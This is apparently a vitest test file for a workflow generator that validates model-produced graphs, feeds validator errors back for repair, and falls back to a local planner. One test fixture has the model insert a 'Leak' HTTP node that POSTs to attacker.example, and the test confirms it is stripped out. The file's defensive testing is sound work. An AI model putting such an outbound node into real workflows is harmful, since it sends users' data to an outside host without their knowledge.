/**
 * Generation through a model: the real OpenAI SDK (inside libs/llm) against a local server that speaks the
 * chat-completions wire format. The first answer breaks the workflow validator, the second is right; the
 * generator feeds the validator's errors back and accounts for both calls.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CallContext } from '@dagwright/kit';
import { chatCompletion, wireServer, type WireServer } from '@dagwright/testkit';
import { validateGraph } from '@dagwright/workflow';
import type { GeneratedWorkflow } from '../src/generation/generate.ts';
import { CATALOG } from './fixtures.ts';
import { putAgents, startGenerator, tenantContext, type GeneratorHarness } from './support.ts';

let server: WireServer;
let h: GeneratorHarness;
let ctx: CallContext;

/** A chat completion whose content is the model's JSON answer. */
const reply = (content: object) => ({
  body: chatCompletion(JSON.stringify(content), 'gpt-4o-2024-08-06', { prompt: 900, completion: 120 }),
});

const answer = (graph: object) => ({
  graph,
  reasoning: 'Track first, then tell the customer.',
  designDecisions: ['notify after tracking, because the email needs the status'],
  missingCapabilities: [],
});
const invalid = answer({
  executionMode: 'sequential',
  nodes: [{ id: 'teleport', name: 'Teleport', type: 'agent', agentId: 'teleport-parcel' }],
  edges: [],
});
const valid = answer({
  executionMode: 'sequential',
  nodes: [
    { id: 'track', name: 'Track', type: 'agent', agentId: 'track-shipment' },
    { id: 'notify', name: 'Notify', type: 'agent', agentId: 'notify-customer' },
  ],
  edges: [
    { from: 'track', to: 'notify', mapping: { message: '"Your shipment is " & status & " in " & location' } },
  ],
});

beforeAll(async () => {
  server = await wireServer();
  h = await startGenerator({
    OPENAI_API_KEY: 'sk-test-generator',
    OPENAI_BASE_URL: `${server.origin}/v1`,
    OPENAI_MODEL: 'gpt-4o',
    LLM_CACHE_TTL_SECONDS: '0',
  });
  ctx = tenantContext();
  await putAgents(h, ctx, CATALOG);
}, 120_000);

afterAll(async () => {
  await h.close();
  await server.close();
});

describe('generation through a model', () => {
  it('feeds the validator’s errors back, then returns the repaired graph with the usage of every call', async () => {
    server.reply(reply(invalid), reply(valid));
    const response = await h.generator.generateWorkflow(
      {
        problemStatement: 'Track shipment TRK-5 and email the customer where it is.',
        agentIds: CATALOG.map((a) => a.id),
        preferencesJson: JSON.stringify({ optimizeFor: 'accuracy' }),
        contextJson: JSON.stringify({ customer: 'ACME' }),
      },
      ctx,
    );
    const result = JSON.parse(String(response.generatedJson)) as GeneratedWorkflow;
    expect(result.generation.method).toBe('model');
    expect(result.generation.model.model).toBe('gpt-4o-2024-08-06');
    expect(result.generation.usage).toMatchObject({ inputTokens: 1800, outputTokens: 240 });
    expect(result.generation.usage.costUsd).toBeGreaterThan(0);
    expect(validateGraph(result.graph, CATALOG).ok).toBe(true);
    expect(result.explanation.potentialIssues).toContain("the model's graph needed 1 repair round(s)");

    expect(server.requests).toHaveLength(2);
    const [first, second] = server.requests;
    expect(first?.headers.authorization).toBe('Bearer sk-test-generator');
    expect(first?.body).toMatchObject({
      model: 'gpt-4o',
      response_format: { type: 'json_schema', json_schema: { name: 'workflow' } },
    });
    const prompt = JSON.stringify(first?.body.messages);
    expect(prompt).toContain('Track shipment TRK-5');
    expect(prompt).toContain('track-shipment');
    expect(prompt).toContain('Context: {\\"customer\\":\\"ACME\\"}');
    const repair = JSON.stringify(second?.body.messages);
    expect(repair).toContain('UNKNOWN_AGENT');
    expect(repair).toContain('teleport-parcel');
  });

  it('falls back to the local planner, and says so, when the model keeps answering invalid graphs', async () => {
    server.requests.length = 0;
    server.reply(reply(invalid), reply(invalid), reply(invalid));
    const response = await h.generator.generateWorkflow(
      {
        problemStatement: 'Track shipment TRK-6 and email the customer where it is.',
        agentIds: CATALOG.map((a) => a.id),
      },
      ctx,
    );
    const result = JSON.parse(String(response.generatedJson)) as GeneratedWorkflow;
    expect(server.requests).toHaveLength(3);
    expect(result.generation.method).toBe('local-planner');
    // The model calls were paid for, so the answer reports them although their graphs were dropped.
    expect(result.generation.usage).toMatchObject({ inputTokens: 2700, outputTokens: 360 });
    expect(result.explanation.potentialIssues.some((i) => i.includes('the local planner drafted it'))).toBe(
      true,
    );
    expect(validateGraph(result.graph, CATALOG).ok).toBe(true);
  });

  it('does not let a model add blocks that call outside the catalog', async () => {
    const outbound = answer({
      executionMode: 'sequential',
      nodes: [
        { id: 'track', name: 'Track', type: 'agent', agentId: 'track-shipment' },
        {
          id: 'leak',
          name: 'Leak',
          type: 'http',
          config: { url: 'https://attacker.example/x', method: 'POST' },
        },
      ],
      edges: [{ from: 'track', to: 'leak' }],
    });
    server.requests.length = 0;
    server.reply(reply(outbound), reply(valid));
    const response = await h.generator.generateWorkflow(
      {
        problemStatement: 'Track shipment TRK-7 and email the customer.',
        agentIds: CATALOG.map((a) => a.id),
      },
      ctx,
    );
    const result = JSON.parse(String(response.generatedJson)) as GeneratedWorkflow;
    expect(result.generation.method).toBe('model');
    expect(result.graph.nodes.map((n) => n.type)).toEqual(['agent', 'agent']);
    expect(JSON.stringify(server.requests[1]?.body.messages)).toContain('/nodes/1/type');
  });
});
